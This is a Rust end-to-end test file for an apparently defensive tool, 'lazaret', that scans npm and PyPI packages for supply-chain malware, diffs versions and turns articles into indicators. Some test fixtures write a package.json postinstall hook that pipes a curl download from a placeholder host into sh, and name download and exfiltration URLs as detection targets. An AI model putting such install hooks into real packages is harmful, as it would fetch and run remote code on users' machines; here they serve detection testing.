//! One end-to-end test per command, on the repository's own examples.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test may fail")]

use std::path::{Path, PathBuf};

use assert_cmd::Command;

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// The binary with a data folder of its own, in the repository's folder.
struct Lazaret {
    data: tempfile::TempDir,
}

impl Lazaret {
    fn new() -> Self {
        Self {
            data: tempfile::tempdir().unwrap(),
        }
    }

    fn run(&self, args: &[&str]) -> (i32, String, String) {
        let output = Command::cargo_bin("lazaret")
            .unwrap()
            .current_dir(root())
            .env("XDG_DATA_HOME", self.data.path())
            .env("XDG_CONFIG_HOME", self.data.path())
            .env("NO_COLOR", "1")
            .args(args)
            .output()
            .unwrap();
        let text = |bytes: Vec<u8>| String::from_utf8(bytes).unwrap();
        (
            output.status.code().unwrap(),
            text(output.stdout),
            text(output.stderr),
        )
    }
}

#[test]
fn scan_tells_attacks_from_ordinary_packages() {
    let lazaret = Lazaret::new();
    for (package, verdict, status) in [
        ("stealer-npm", "BLOCK", 1),
        ("downloader-pypi", "BLOCK", 1),
        ("beacon-npm", "BLOCK", 1),
        ("native-addon-npm", "ALLOW", 0),
    ] {
        let path = format!("examples/packages/{package}");
        let (code, out, err) = lazaret.run(&["--quiet", "scan", &path]);
        assert_eq!(code, status, "{package}: {out}{err}");
        assert!(out.starts_with(verdict), "{package}: {out}");
    }
    let (code, ..) = lazaret.run(&[
        "--quiet",
        "scan",
        "--fail-on",
        "never",
        "examples/packages/stealer-npm",
    ]);
    assert_eq!(code, 0);
}

#[test]
fn scan_shows_the_source_of_what_it_says() {
    let (_, out, _) = Lazaret::new().run(&["--quiet", "scan", "examples/packages/downloader-pypi"]);
    assert!(out.contains("http://192.0.2.44/update.bin"), "{out}");
    assert!(out.contains("setup.py:10"), "{out}");
    assert!(out.contains("ATT&CK T1"), "{out}");
}

#[test]
fn scan_writes_every_format() {
    let lazaret = Lazaret::new();
    for format in ["json", "sarif", "osv", "vex"] {
        let (code, out, _) = lazaret.run(&[
            "--quiet",
            "scan",
            "examples/packages/stealer-npm",
            "--format",
            format,
        ]);
        assert_eq!(code, 1);
        serde_json::from_str::<serde_json::Value>(&out)
            .unwrap_or_else(|error| panic!("{format}: {error}"));
    }
    let (_, out, _) = lazaret.run(&[
        "--quiet",
        "scan",
        "examples/packages/stealer-npm",
        "--format",
        "html",
    ]);
    assert!(out.starts_with("<!doctype html>") && !out.contains("<script"));
}

#[test]
fn scan_says_what_it_does_not_understand_and_fails() {
    let lazaret = Lazaret::new();
    let (code, _, err) = lazaret.run(&["scan", "no-such-file.tgz"]);
    assert_eq!(code, 2);
    assert!(err.contains("no-such-file.tgz"), "{err}");

    let folder = tempfile::tempdir().unwrap();
    let lock = folder.path().join("package-lock.json");
    std::fs::write(&lock, "{ not a lockfile").unwrap();
    let (code, out, err) = lazaret.run(&["scan", lock.to_str().unwrap()]);
    assert_eq!(code, 2, "{out}{err}");
    assert!(err.contains("package-lock.json"), "{err}");
}

#[test]
fn scan_accepts_a_reviewed_finding() {
    let lazaret = Lazaret::new();
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(
        folder.path().join("package.json"),
        r#"{"name":"x","version":"1.0.0","scripts":{"postinstall":"curl http://192.0.2.9/a.sh | sh"}}"#,
    )
    .unwrap();
    let target = folder.path().to_str().unwrap();
    let (code, out, _) = lazaret.run(&["--quiet", "scan", target, "--format", "jsonl"]);
    assert_eq!(code, 1, "{out}");
    let assessment: serde_json::Value = serde_json::from_str(out.lines().next().unwrap()).unwrap();
    let hash = blake3::hash(&std::fs::read(folder.path().join("package.json")).unwrap()).to_hex();
    let mut reviewed = String::new();
    for finding in assessment["findings"].as_array().unwrap() {
        reviewed += &format!(
            "[[suppress]]\nrule = {}\npath = \"package.json\"\nhash = \"{hash}\"\nreason = \"our own mirror\"\n",
            finding["rule"]
        );
    }
    let list = folder.path().join("reviewed.toml");
    std::fs::write(&list, reviewed).unwrap();
    let (code, out, err) = lazaret.run(&[
        "--quiet",
        "scan",
        target,
        "--suppressions",
        list.to_str().unwrap(),
    ]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("suppressed"), "{out}");
}

#[test]
fn db_makes_scan_know_a_locked_package() {
    let lazaret = Lazaret::new();
    let lock = "examples/lockfiles/package-lock.json";
    let (code, ..) = lazaret.run(&["db", "status"]);
    assert_eq!(code, 2, "there is no index yet");
    let (code, out, _) = lazaret.run(&["--quiet", "scan", lock]);
    assert_eq!(code, 1);
    assert!(out.contains("REVIEW") && !out.contains("BLOCK"), "{out}");

    let (code, _, err) = lazaret.run(&["db", "import", "examples/records"]);
    assert_eq!(code, 0, "{err}");
    let (code, out, _) = lazaret.run(&["db", "status"]);
    assert_eq!(code, 0);
    assert!(
        out.contains("records  1") && out.contains("whole    yes"),
        "{out}"
    );
    let (code, out, _) = lazaret.run(&["--quiet", "scan", lock]);
    assert_eq!(code, 1);
    assert!(out.contains("MAL-0000-1"), "{out}");
}

#[test]
fn diff_shows_what_a_version_added() {
    let lazaret = Lazaret::new();
    let folder = tempfile::tempdir().unwrap();
    let version = |name: &str, version: &str, script: &str| {
        let path = folder.path().join(name);
        std::fs::create_dir(&path).unwrap();
        let manifest = format!(
            r#"{{"name":"x","version":"{version}","description":"x","scripts":{{{script}}}}}"#
        );
        std::fs::write(path.join("package.json"), manifest).unwrap();
        std::fs::write(path.join("index.js"), "module.exports = 1;\n").unwrap();
        path.to_str().unwrap().to_owned()
    };
    let old = version("old", "1.0.0", "");
    let same = version("same", "1.0.1", "");
    let new = version(
        "new",
        "1.0.1",
        r#""postinstall":"curl -s http://192.0.2.9/a.sh | sh""#,
    );
    let (code, out, err) = lazaret.run(&["diff", &old, &same]);
    assert_eq!(code, 0, "{out}{err}");
    let (code, out, err) = lazaret.run(&["diff", &old, &new]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(
        out.contains("BLOCK") && out.contains("http://192.0.2.9/a.sh"),
        "{out}"
    );
}

#[test]
fn explain_shows_a_rule_with_its_examples() {
    let lazaret = Lazaret::new();
    let (code, list, _) = lazaret.run(&["explain"]);
    assert_eq!(code, 0);
    let rule = list
        .lines()
        .next()
        .unwrap()
        .split_whitespace()
        .next()
        .unwrap();
    let (code, out, _) = lazaret.run(&["explain", rule]);
    assert_eq!(code, 0);
    assert!(
        out.contains("It fires on") && out.contains("ATT&CK"),
        "{out}"
    );
    let (code, out, _) = lazaret.run(&["explain", "known-malicious"]);
    assert!(code == 0 && out.contains("OpenSSF"), "{out}");
    let (code, out, _) = lazaret.run(&["explain", "yara-crypto-miner"]);
    assert!(code == 0 && out.contains("stratum"), "{out}");
    let (code, _, err) = lazaret.run(&["explain", "no-such-rule"]);
    assert_eq!(code, 2);
    assert!(err.contains("no-such-rule"));
}

#[test]
fn brief_turns_an_article_into_indicators() {
    let lazaret = Lazaret::new();
    let folder = tempfile::tempdir().unwrap();
    let article = folder.path().join("article.md");
    std::fs::write(
        &article,
        "# A stealer on PyPI\n\nThe malicious PyPI package `colour-tools-x` (version 0.0.3) was published in May. \
         It sends environment variables to hxxps://drop[.]evil-tools[.]ru/in and runs on install.\n",
    )
    .unwrap();
    let path = article.to_str().unwrap();
    let (code, out, err) = lazaret.run(&["brief", path]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("pkg:pypi/colour-tools-x@0.0.3"), "{out}");
    assert!(out.contains("hxxps://drop[.]evil-tools[.]ru/in"), "{out}");
    let (code, out, _) = lazaret.run(&["brief", path, "--format", "stix"]);
    assert_eq!(code, 0);
    let bundle: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(bundle["type"], "bundle");
}

#[test]
fn completions_are_for_the_shell() {
    let (code, out, _) = Lazaret::new().run(&["completions", "bash"]);
    assert_eq!(code, 0);
    assert!(out.contains("_lazaret()"));
}

#[test]
fn a_broken_configuration_names_its_line() {
    let lazaret = Lazaret::new();
    let folder = tempfile::tempdir().unwrap();
    let config = folder.path().join("lazaret.toml");
    std::fs::write(&config, "content = []\nno-such-key = 1\n").unwrap();
    let (code, _, err) = lazaret.run(&["--config", config.to_str().unwrap(), "explain"]);
    assert_eq!(code, 2);
    assert!(
        err.contains("no-such-key") && err.contains("line 2"),
        "{err}"
    );
}
